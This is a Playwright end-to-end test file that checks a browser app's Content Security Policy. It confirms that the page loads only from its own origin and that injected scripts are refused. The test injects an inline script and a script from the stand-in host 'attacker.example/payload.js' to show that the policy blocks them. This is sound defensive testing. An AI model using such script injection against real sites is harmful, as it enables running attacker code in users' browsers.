/**
 * The CSP at work in a real Chromium (browser mode sends the header the
 * app:// protocol sends): the page loads only from its own origin, and what
 * an attacker would inject is refused.
 */
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';

interface Violation {
  readonly directive: string;
  readonly blocked: string;
}

// Page-side code as strings: the e2e specs compile without the DOM library.
// An init script runs before the page's own and is not subject to its CSP: it only listens.
const recordViolations = `
  window.cspViolations = [];
  document.addEventListener('securitypolicyviolation', (event) => {
    window.cspViolations.push({ directive: event.effectiveDirective, blocked: event.blockedURI });
  });`;

const injectScripts = `
  const inline = document.createElement('script');
  inline.textContent = 'window.injectedScriptRan = true';
  document.body.append(inline);
  const remote = document.createElement('script');
  remote.src = 'https://attacker.example/payload.js';
  document.body.append(remote);`;

async function violations(page: Page): Promise<Violation[]> {
  return (await page.evaluate('window.cspViolations')) as Violation[];
}

/** Each distinct value, sorted: a violation is reported once per policy in force (the header's and the meta tag's). */
function distinct(values: readonly string[]): string[] {
  return [...new Set(values)].sort();
}

test.describe('content security policy', () => {
  test.beforeEach(async ({ readerPage }) => {
    await readerPage.page.addInitScript(recordViolations);
  });

  test('the page loads everything from its own origin, without a single violation', async ({ readerPage, baseURL }) => {
    const origins = new Set<string>();
    readerPage.page.on('request', (request) => origins.add(new URL(request.url()).origin));
    await readerPage.open();
    await readerPage.page.evaluate('document.fonts.ready');
    expect([...origins]).toEqual([new URL(baseURL ?? '').origin]);
    expect(await violations(readerPage.page)).toEqual([]);
  });

  test('an injected inline script and a script from elsewhere are refused, and neither runs', async ({ reader }) => {
    const failed = new Map<string, string>();
    reader.page.on('requestfailed', (request) => failed.set(request.url(), request.failure()?.errorText ?? ''));
    await reader.page.evaluate(injectScripts);
    await expect
      .poll(async () => distinct((await violations(reader.page)).map((violation) => violation.blocked)))
      .toEqual(['https://attacker.example/payload.js', 'inline']);
    expect(distinct((await violations(reader.page)).map((violation) => violation.directive))).toEqual(['script-src-elem']);
    expect(await reader.page.evaluate('window.injectedScriptRan')).toBeUndefined();
    // Stopped by the policy before any connection, not by the network.
    await expect.poll(() => failed.get('https://attacker.example/payload.js')).toBe('csp');
  });
});
